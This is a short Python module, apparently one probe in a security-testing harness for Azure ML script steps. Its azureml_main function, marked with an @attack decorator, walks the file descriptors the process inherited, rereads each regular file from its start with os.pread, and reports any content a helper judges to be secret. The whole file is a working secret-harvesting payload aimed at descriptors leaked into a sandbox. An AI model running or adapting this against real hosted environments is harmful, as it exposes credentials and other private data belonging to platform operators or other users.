"""Reads every file that it inherited open, from its beginning."""

import os
import stat

from attack import attack, descriptors, every, is_secret, told


def reread(number):
    content = os.pread(number, 4096, 0)
    return told(f"descriptor {number}", content) if is_secret(content) else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(reread, [number for number, found in descriptors() if stat.S_ISREG(found.st_mode)])
